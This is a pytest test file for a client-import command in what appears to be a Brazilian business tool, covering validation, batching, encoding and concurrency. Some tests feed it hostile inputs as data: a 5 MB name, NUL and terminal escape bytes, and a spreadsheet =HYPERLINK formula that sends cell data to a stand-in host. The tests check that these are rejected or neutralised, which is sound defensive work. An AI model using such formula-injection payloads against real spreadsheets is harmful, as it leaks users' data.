"""`workbench import-clients`: per-row validation, one transaction, clear errors."""

from __future__ import annotations

import subprocess
import sys
import textwrap
import time

import pandas as pd
import pytest

import workbench

import rawdb
from workbench.cli import main
from workbench.errors import BusyError, ValidationError
from workbench.services.documents import format_document, is_valid_document, only_digits
from workbench.services.export import CSV_OPTIONS
from workbench.services.importer import import_clients

GOOD_CSV = """code;kind;name;document;trade_name;email;phone;mobile;city;state;zip
A1;PF;João da Conceição;529.982.247-25;;joao@example.com;(11) 3333-4444;(11) 98765-4321;São Paulo;SP;01310-100
A2;PJ;Padaria Pão Dourado Ltda;11.222.333/0001-81;Padaria Pão Dourado;contato@padaria.com.br;;;Campinas;SP;13010-000
A3;PF;Maria Silva;123.456.789-00;;maria@;;;;;
A1;PF;Repetido;39053344705;;;;;;;
A4;XX;;;;;;;;;
A5;PJ;Empresa;52998224725;;;;;;;
A6;pf;Zé Ninguém;390.533.447-05;;ze@example;12345;;;São;
"""


def _clients(where):
    """(every client's imported fields, rows in the search index) of a Workbench, a store or a path."""
    rows = rawdb.query(where, "SELECT code, kind, name, trade_name, document, email, phone, mobile, zip "
                              "FROM clients ORDER BY client_id")
    rows = [tuple(None if pd.isna(v) else v for v in r) for r in rows.itertuples(index=False, name=None)]
    return rows, int(rawdb.query(where, "SELECT count(*) AS n FROM client_search").n[0])


def test_document_helpers():
    assert only_digits("529.982.247-25") == "52998224725" and only_digits(None) == ""
    assert is_valid_document("529.982.247-25") and is_valid_document("11222333000181")
    assert not is_valid_document("123.456.789-00") and not is_valid_document("11111111111")
    assert format_document("52998224725") == "529.982.247-25"
    assert format_document("11222333000181") == "11.222.333/0001-81"


@pytest.mark.backends("duckdb", "postgres")
def test_good_and_bad_rows(tmp_path, wb):
    src = tmp_path / "clientes.csv"
    src.write_text(GOOD_CSV, encoding="utf-8")
    rejects = tmp_path / "rejeitados.csv"
    report = import_clients(wb.store, src, rejects_path=rejects)
    assert report.loaded == 2
    reasons = {line: reason for line, _, reason in report.rejected}
    assert set(reasons) == {4, 5, 6, 7, 8}
    assert "CPF inválido" in reasons[4] and "e-mail inválido" in reasons[4]
    assert "código repetido no arquivo" in reasons[5]
    assert "tipo deve ser PF ou PJ" in reasons[6] and "nome não informado" in reasons[6]
    assert "CNPJ inválido" in reasons[7]
    assert "telefone inválido" in reasons[8] and "UF inválida" in reasons[8]
    assert "linha 4 (A3)" in report.summary()
    rows, indexed = _clients(wb)
    assert rows[0] == ("A1", "PF", "João da Conceição", None, "52998224725", "joao@example.com",
                       "1133334444", "11987654321", "01310100")
    assert rows[1][3] == "Padaria Pão Dourado" and rows[1][4] == "11222333000181"
    assert indexed == 2
    assert wb.search_clients("joao conceicao").code.tolist() == ["A1"]       # searchable at once
    assert wb.search_clients("pao dourado").code.tolist() == ["A2"]
    assert rejects.read_bytes().startswith(b"\xef\xbb\xbf\"linha\";")      # the exports' CSV: BOM, ";"
    frame = pd.read_csv(rejects, dtype=str, **CSV_OPTIONS)
    assert list(frame["linha"]) == ["4", "5", "6", "7", "8"] and "motivo" in frame.columns
    assert {"código", "tipo", "nome", "documento", "nome fantasia", "CEP"} <= set(frame.columns)

    # again: the good rows were imported before, identically; the bad rows are still bad
    report = import_clients(wb.store, src)
    assert report.loaded == 0 and report.unchanged == 2 and len(report.rejected) == 5
    assert "2 já importado(s) antes, sem alteração" in report.summary()
    assert _clients(wb)[1] == 2


@pytest.mark.backends("duckdb", "postgres")
def test_parquet(tmp_path, wb):
    src = tmp_path / "clientes.parquet"
    pd.DataFrame({"code": ["P1", "P2"], "kind": ["PF", "PF"], "name": ["Conceição", "Ana"],
                  "document": ["52998224725", "52998224724"]}).to_parquet(src)
    report = import_clients(wb.store, src)
    assert report.loaded == 1 and report.rejected == [(2, "P2", "CPF inválido")]


@pytest.mark.parametrize("content, message", [
    ("nome,cpf\nJoão,52998224725\n", "colunas obrigatórias ausentes"),
    ("code,kind,name,document,idade\nA,PF,B,52998224725,3\n", "colunas desconhecidas"),
    (b"code,kind,name,document\nA,PF,Jo\x81o,52998224725\n", "Salvar como > 'CSV UTF-8"),
])
def test_wrong_file_writes_nothing(tmp_path, wb, capsys, content, message):
    src = tmp_path / "ruim.csv"
    (src.write_bytes if isinstance(content, bytes) else src.write_text)(content)
    with pytest.raises(ValidationError) as err:
        import_clients(wb.store, src)
    assert str(src) in str(err.value) and message in str(err.value)
    assert main(["--db", str(wb.path), "import-clients", str(src)]) == 2
    assert str(src) in capsys.readouterr().err
    assert _clients(wb) == ([], 0)


def test_unreadable_and_missing_files(tmp_path, wb):
    for src in (tmp_path / "nao_existe.csv", tmp_path / "lixo.parquet"):
        if src.suffix == ".parquet":
            src.write_bytes(b"not a parquet file")
        with pytest.raises(ValidationError, match=str(src)):
            import_clients(wb.store, src)
    assert _clients(wb) == ([], 0)


def test_nothing_half_written_on_failure(tmp_path, wb, monkeypatch):
    src = tmp_path / "clientes.csv"
    src.write_text(GOOD_CSV, encoding="utf-8")
    from workbench.storage import bulk

    def boom(con, *args, **kwargs):
        raise RuntimeError("falha no índice")

    monkeypatch.setattr(bulk.search_index, "rebuild", boom)
    monkeypatch.setattr(bulk.search_placement, "write_batch", boom)
    with pytest.raises(RuntimeError):
        import_clients(wb.store, src)
    assert _clients(wb) == ([], 0)


def test_cli_report(tmp_path, capsys):
    db = tmp_path / "cli.duckdb"
    workbench.open(db, create=True)
    src = tmp_path / "clientes.csv"
    src.write_text(GOOD_CSV, encoding="utf-8")
    assert main(["--db", str(db), "import-clients", str(src), "--rejects", str(tmp_path / "r.csv")]) == 1
    out = capsys.readouterr().out
    assert "2 cliente(s) importado(s), 5 linha(s) rejeitada(s)" in out and "linha 7 (A5): CNPJ inválido" in out


def test_phone_format():
    from workbench.services.documents import format_phone

    assert format_phone("11987654321") == "(11) 98765-4321"
    assert format_phone("1133334444") == "(11) 3333-4444"
    assert format_phone("12345") == "12345" and format_phone(None) == ""


# -- what no screen would accept, ragged rows, Excel's encoding: through the real command --------
HEADER = "code;kind;name;document;trade_name;email;phone;mobile;city;state;zip"


def _cli(db, *args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "workbench.cli", "--db", str(db), "import-clients", *map(str, args)],
                          capture_output=True, text=True, timeout=600)


def _rejects(path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False, **CSV_OPTIONS)


@pytest.mark.backends("duckdb", "postgres")
def test_cli_applies_the_screens_text_rules(tmp_path, wb):
    src = tmp_path / "hostil.csv"
    rows = [HEADER,
            "B1;PF;" + "A" * 5_000_000 + ";529.982.247-25;;;;;;;",            # a 5 MB name
            "B2;PF;Ana\x00Maria;390.533.447-05;;;;;;;",                         # a NUL byte
            "B3;PF;Zé \x1b[31mVermelho;11144477735;;;;;;;",                     # an escape sequence
            "B4;PF;Beto Souza;" + "9" * 41 + ";;;;;;;",
            "B" * 31 + ";PF;Carla Dias;12345678909;;;;;;;",                     # a 31-character code
            "B6;PF;Maria Bonita;52998224725;" + "F" * 151 + ";;;;;;",
            "B7;PF;Boa Linha;71428793860;;;;;São Paulo;SP;01310-100"]
    src.write_bytes(("\n".join(rows) + "\n").encode("utf-8"))
    out = _cli(wb.store.target, src, "--rejects", tmp_path / "r.csv")
    assert out.returncode == 1, out.stderr
    assert "1 cliente(s) importado(s), 6 linha(s) rejeitada(s)" in out.stdout
    assert "linha 2 (B1): nome: no máximo 150 caracteres (informados 5000000)" in out.stdout
    assert "linha 3 (B2): nome: caracteres de controle não são permitidos" in out.stdout
    assert "linha 4 (B3): nome: caracteres de controle não são permitidos" in out.stdout
    assert "linha 5 (B4): documento: no máximo 40 caracteres" in out.stdout
    assert "linha 6 (" + "B" * 30 in out.stdout and "código: no máximo 30 caracteres (informados 31)" in out.stdout
    assert "linha 7 (B6): nome fantasia: no máximo 150 caracteres (informados 151)" in out.stdout
    rows, indexed = _clients(wb)
    assert [r[0] for r in rows] == ["B7"] and indexed == 1
    assert list(_rejects(tmp_path / "r.csv")["linha"]) == ["2", "3", "4", "5", "6", "7"]


def test_cli_reports_ragged_rows_as_such(tmp_path, wb):
    src = tmp_path / "torta.csv"
    src.write_text("\n".join([
        HEADER,
        "R1;PF;Ana Souza;529.982.247-25;;;;;;;",                                 # good
        "R2;PF;Silva; Beto;390.533.447-05;;;;;;;",                               # a stray ';' in the name
        "R3;PF;Carla Dias;11144477735",                                         # fields missing
        "R4;PJ;Padaria Pão Bom Ltda;11.222.333/0001-81;;;;;;;",
        ";;;;;;;;;;",                                                            # an empty row: skipped
        '"R5";"PF";"Dora ""Dona"" Lima";"71428793860";;;;;"São Paulo";"SP";"01310-100"',
    ]) + "\n", encoding="utf-8")
    out = _cli(wb.store.target, src, "--rejects", tmp_path / "r.csv")
    assert out.returncode == 1, out.stderr
    assert "3 cliente(s) importado(s), 2 linha(s) rejeitada(s)" in out.stdout
    assert "linha 3 (R2): linha com 12 campo(s), esperado(s) 11" in out.stdout
    assert "linha 4 (R3): linha com 4 campo(s), esperado(s) 11" in out.stdout
    assert "tipo deve ser PF ou PJ" not in out.stdout
    assert sorted(r[0] for r in _clients(wb)[0]) == ["R1", "R4", "R5"]
    rejects = _rejects(tmp_path / "r.csv")
    assert list(rejects["linha"]) == ["3", "4"] and list(rejects["código"]) == ["R2", "R3"]
    assert rejects["nome"].iloc[1] == "Carla Dias" and rejects["motivo"].iloc[0].startswith("linha com 12")


@pytest.mark.backends("duckdb", "postgres")
def test_cli_reads_a_file_saved_by_brazilian_excel(tmp_path, wb):
    src = tmp_path / "excel.csv"
    src.write_bytes("código;tipo;nome;documento;cidade;UF\r\n"
                    "E1;PF;João da Conceição;529.982.247-25;São Paulo;SP\r\n"
                    "E2;PJ;Açaí & Cia Ltda;11.222.333/0001-81;Maceió;AL\r\n".encode("cp1252"))
    out = _cli(wb.store.target, src)
    assert out.returncode == 0, out.stdout + out.stderr
    assert "2 cliente(s) importado(s)" in out.stdout and "Windows-1252" in out.stdout
    assert "CSV UTF-8" in out.stdout                                  # and how to save it as UTF-8
    rows = _clients(wb)[0]
    assert [r[2] for r in rows] == ["João da Conceição", "Açaí & Cia Ltda"]
    assert workbench.open(wb.store.target).search_clients("acai").code.tolist() == ["E2"]


def test_cli_refuses_an_undecodable_file_saying_how_to_save_it(tmp_path, wb):
    src = tmp_path / "binario.csv"
    src.write_bytes(b"code;kind;name;document\nX1;PF;Jo\x81\x8do;52998224725\n")
    out = _cli(wb.store.target, src)
    assert out.returncode == 2 and str(src) in out.stderr
    assert "nem em Windows-1252" in out.stderr and "CSV UTF-8" in out.stderr and "Traceback" not in out.stderr
    assert _clients(wb) == ([], 0)


@pytest.mark.backends("duckdb", "postgres")
def test_corrected_rejects_file_imports_again(tmp_path, wb):
    src = tmp_path / "clientes.csv"
    src.write_text(GOOD_CSV, encoding="utf-8")
    assert _cli(wb.store.target, src, "--rejects", tmp_path / "r.csv").returncode == 1
    rejects = _rejects(tmp_path / "r.csv")
    fixed = rejects[rejects["código"] == "A3"].copy()
    fixed["documento"], fixed["e-mail"] = "111.444.777-35", "maria@example.com"
    fixed.to_csv(tmp_path / "corrigido.csv", index=False, **CSV_OPTIONS)
    out = _cli(wb.store.target, tmp_path / "corrigido.csv")
    assert out.returncode == 0 and "1 cliente(s) importado(s), 0 linha(s) rejeitada(s)" in out.stdout, out.stdout
    assert "A3" in [r[0] for r in _clients(wb)[0]]


@pytest.mark.backends("duckdb", "postgres")
def test_rerun_counts_identical_rows_and_refuses_changed_ones(tmp_path, wb):
    src = tmp_path / "clientes.csv"
    src.write_text(GOOD_CSV, encoding="utf-8")
    import_clients(wb.store, src)
    changed = tmp_path / "mudou.csv"
    changed.write_text("code;kind;name;document\n"
                       "a1;PF;João da Conceição;52998224725\n"            # same client, code in another case
                       "A2;PJ;Outra Razão Social;11222333000181\n", encoding="utf-8")   # same code, other data
    report = import_clients(wb.store, changed)
    reasons = {line: reason for line, _, reason in report.rejected}
    assert report.loaded == 0 and report.unchanged == 0
    assert reasons[2] == "código já cadastrado com outros dados"            # trade name, e-mail... differ
    assert reasons[3] == "código já cadastrado com outros dados"
    changed.write_text("code;kind;name;document\nA9;PF;Novo Nome;529.982.247-25\n", encoding="utf-8")
    report = import_clients(wb.store, changed)                              # a new code, a stored document
    assert report.loaded == 0 and report.rejected == [(2, "A9", "documento já cadastrado")]


def test_each_batch_is_atomic_and_a_rerun_continues(tmp_path, wb, monkeypatch):
    from workbench.storage import bulk, search_placement

    src = tmp_path / "lotes.csv"
    src.write_text(_valid_clients_csv(7), encoding="utf-8")
    monkeypatch.setattr(bulk, "IMPORT_BATCH_ROWS", 3)
    monkeypatch.setattr(bulk.search_index, "rebuild", lambda *a, **k: pytest.fail("no full rebuild"))
    real, calls = search_placement.write_batch, []

    def second_fails(con, batch, kept, ids):
        calls.append(len(ids))
        if len(calls) == 2:
            raise BusyError("Banco de dados ocupado; tente novamente em instantes.")
        real(con, batch, kept, ids)

    monkeypatch.setattr(bulk.search_placement, "write_batch", second_fails)
    with pytest.raises(BusyError, match="rode o mesmo comando de novo"):
        import_clients(wb.store, src)
    rows, indexed = _clients(wb)
    assert len(rows) == 3 and indexed == 3                    # the first batch, whole; nothing of the second
    monkeypatch.setattr(bulk.search_placement, "write_batch", real)
    report = import_clients(wb.store, src)
    assert (report.loaded, report.unchanged, report.rejected, report.batches) == (4, 3, [], 2)
    rows, indexed = _clients(wb)
    assert len(rows) == 7 and indexed == 7
    names = workbench.open(wb.store.target).search_clients("cliente lote", limit=20)
    assert names.name.tolist() == sorted(names.name.tolist()) and len(names) == 7    # found, in name order


@pytest.mark.backends("duckdb", "postgres")
def test_imported_clients_take_their_place_in_name_order(tmp_path, wb):
    first = tmp_path / "a.csv"
    first.write_text("code;kind;name;document\nN1;PF;Ana Silva;52998224725\nN2;PF;Carla Silva;39053344705\n"
                     "N3;PF;Zeca Silva;11144477735\n", encoding="utf-8")
    import_clients(wb.store, first)
    second = tmp_path / "b.csv"
    second.write_text("code;kind;name;document\nN4;PF;Bruno Silva;71428793860\nN5;PF;Aaron Silva;12345678909\n"
                      "N6;PF;Xuxa Silva;98765432100\n", encoding="utf-8")
    import_clients(wb.store, second)
    found = workbench.open(wb.store.target).search_clients("silva").name.tolist()
    assert found == ["Aaron Silva", "Ana Silva", "Bruno Silva", "Carla Silva", "Xuxa Silva", "Zeca Silva"]


def _valid_clients_csv(n: int, *, seed: int = 5, prefix: str = "L") -> str:
    import numpy as np

    from workbench.services.documents import random_cpfs

    cpfs = pd.unique(random_cpfs(np.random.default_rng(seed), 2 * n))[:n]
    lines = ["code;kind;name;document;city;state"]
    lines += [f"{prefix}{i:06d};PF;Cliente Lote {i:06d};{cpf};Campinas;SP" for i, cpf in enumerate(cpfs)]
    return "\n".join(lines) + "\n"


# -- the desk keeps working while a large file is imported -------------------------------------
WRITER = textwrap.dedent("""
    import sys, time, workbench
    from workbench.storage.gate import GateStats
    wb = workbench.open(sys.argv[1], create=False)
    total, client_id = int(sys.argv[2]), int(sys.argv[3])
    session = wb.login("atendente", "atendente123")
    def imported():
        return int(wb.sql("SELECT count(*) AS n FROM clients WHERE code LIKE 'L%'").n[0])
    deadline, worst, saved, busy, between = time.monotonic() + 300, 0.0, 0, 0, False
    while time.monotonic() < deadline and not between:
        before = imported()
        if before == total:
            break
        if before == 0:
            time.sleep(0.01)
            continue
        waited = GateStats.waited
        try:
            session.new_attendance(client_id)
            saved += 1
        except workbench.BusyError:
            busy += 1
        worst = max(worst, GateStats.waited - waited)
        between = imported() < total           # saved while the import was still running
    print(f"between={between} saved={saved} busy={busy} waited={worst:.3f}s", flush=True)
""")


def test_the_desk_saves_between_batches_of_a_large_import(tmp_path, desk):
    rows = 30_000
    src = tmp_path / "grande.csv"
    src.write_text(_valid_clients_csv(rows, seed=11), encoding="utf-8")
    client_id = int(desk.sql("SELECT min(client_id) AS c FROM contracts").c[0])
    writer = subprocess.Popen([sys.executable, "-c", WRITER, str(desk.path), str(rows), str(client_id)],
                              stdout=subprocess.PIPE, text=True)
    try:
        out = _cli(desk.path, src)
        assert out.returncode == 0, out.stdout + out.stderr
        assert f"{rows} cliente(s) importado(s), 0 linha(s) rejeitada(s)" in out.stdout
        said = writer.communicate(timeout=300)[0]
    finally:
        if writer.poll() is None:
            writer.kill()
        writer.wait()
    print(said)
    assert "between=True" in said and "busy=0" in said, said      # an operator saved in the middle of it


ANNOUNCED = textwrap.dedent("""
    import fcntl, os, sys, time
    db, ready, done = sys.argv[1:4]
    fd = os.open(db + ".intent", os.O_RDWR | os.O_CREAT, 0o600)
    fcntl.flock(fd, fcntl.LOCK_EX)          # a writer of the desk, queued at the gate
    open(ready, "w").close()
    time.sleep(0.3)
    open(done, "w").close()
    os.close(fd)
""")


def test_between_batches_the_import_stands_aside_for_the_desks_writers(tmp_path, wb, monkeypatch):
    """The next batch waits while an operator's write is queued at the gate (bounded by GIVE_WAY),
    instead of racing the operators for it after a fixed pause."""
    from workbench.storage import bulk

    monkeypatch.setattr(bulk, "GIVE_WAY", 60.0)
    ready, done = tmp_path / "ready", tmp_path / "done"
    writer = subprocess.Popen([sys.executable, "-c", ANNOUNCED, str(wb.path), str(ready), str(done)])
    try:
        while not ready.exists():
            assert writer.poll() is None, "the writer process died"
            time.sleep(0.01)
        wb.store._give_way()
        assert done.exists()                    # the operator went first
    finally:
        writer.wait(timeout=60)


def test_rejects_file_neutralises_formulas(tmp_path, wb):
    src = tmp_path / "formulas.csv"
    src.write_text('code;kind;name;document\nF1;PF;=HYPERLINK("http://x/?d="&A1,"Clique");123\n'
                   "F2;PF;@SUM(1+1);+5511\n", encoding="utf-8")
    import_clients(wb.store, src, rejects_path=tmp_path / "r.csv")
    rejects = _rejects(tmp_path / "r.csv")
    assert rejects["nome"].tolist() == ["'=HYPERLINK(\"http://x/?d=\"&A1,\"Clique\")", "'@SUM(1+1)"]
    assert rejects["documento"].tolist() == ["123", "'+5511"]


# -- clients written by another process while a file is imported ---------------------------------
def _another_process_imports(db, tmp_path, text: str) -> None:
    other = tmp_path / "outro.csv"
    other.write_text(text, encoding="utf-8")
    out = _cli(db, other)
    assert out.returncode == 0, out.stdout + out.stderr


def _store_two_clients(wb, tmp_path) -> None:
    first = tmp_path / "antes.csv"
    first.write_text("code;kind;name;document\nP1;PF;Pré Um;12345678909\nP2;PF;Pré Dois;98765432100\n",
                     encoding="utf-8")
    assert import_clients(wb.store, first).loaded == 2


@pytest.mark.backends("duckdb", "postgres")
def test_clients_another_process_writes_during_the_import_are_not_duplicated(tmp_path, wb, monkeypatch):
    from workbench.services import importer

    src = tmp_path / "clientes.csv"
    src.write_text("code;kind;name;document\nX1;PF;Ana Um;52998224725\nX2;PF;Bia Dois;39053344705\n"
                   "X3;PF;Caio Tres;11144477735\nX4;PF;Davi Quatro;71428793860\n", encoding="utf-8")
    _store_two_clients(wb, tmp_path)
    real_validate = importer.validate_clients

    def validate_meanwhile(frame, store):      # the file is checked; before its first batch, another import
        checked = real_validate(frame, store)
        _another_process_imports(wb.store.target, tmp_path, "code;kind;name;document\n"
                                 "x3;PF;Outro Caio;86288366757\nY9;PF;Outra Davi;714.287.938-60\n")
        return checked

    monkeypatch.setattr(importer, "validate_clients", validate_meanwhile)
    report = import_clients(wb.store, src)
    conflict = "código ou documento cadastrado por outro processo durante a importação"
    assert report.loaded == 2 and report.rejected == [(4, "X3", conflict), (5, "X4", conflict)]
    rows, indexed = _clients(wb)
    assert [r[0] for r in rows] == ["P1", "P2", "x3", "Y9", "X1", "X2"] and indexed == 6


def test_a_replaced_desk_during_the_import_is_checked_whole(tmp_path, wb, monkeypatch):
    from workbench.storage import bulk

    _store_two_clients(wb, tmp_path)
    before = pd.DataFrame({"code": ["P1", "P2"], "kind": "PF", "name": ["Pré Um", "Pré Dois"],
                           "document": ["12345678909", "98765432100"]})
    src = tmp_path / "clientes.csv"
    src.write_text("code;kind;name;document\nX1;PF;Ana Um;52998224725\nX2;PF;Bia Dois;39053344705\n", encoding="utf-8")
    real_plan = bulk.search_placement.plan

    def replaced_meanwhile(existing, keys):     # as `workbench demo --replace` does: the same ids, other clients
        again = before.assign(client_id=[1, 2], code=["P1", "x2"], document=["12345678909", "86288366757"],
                              created_at=pd.Timestamp("2024-06-01", tz="UTC"))
        wb.store.load_tables([("clients", again)], replace=True)
        return real_plan(existing, keys)

    monkeypatch.setattr(bulk.search_placement, "plan", replaced_meanwhile)
    report = import_clients(wb.store, src)
    assert report.loaded == 1
    assert report.rejected == [(3, "X2", "código ou documento cadastrado por outro processo durante a importação")]
    rows, indexed = _clients(wb.path)
    assert [r[0] for r in rows] == ["P1", "x2", "X1"] and indexed == 3
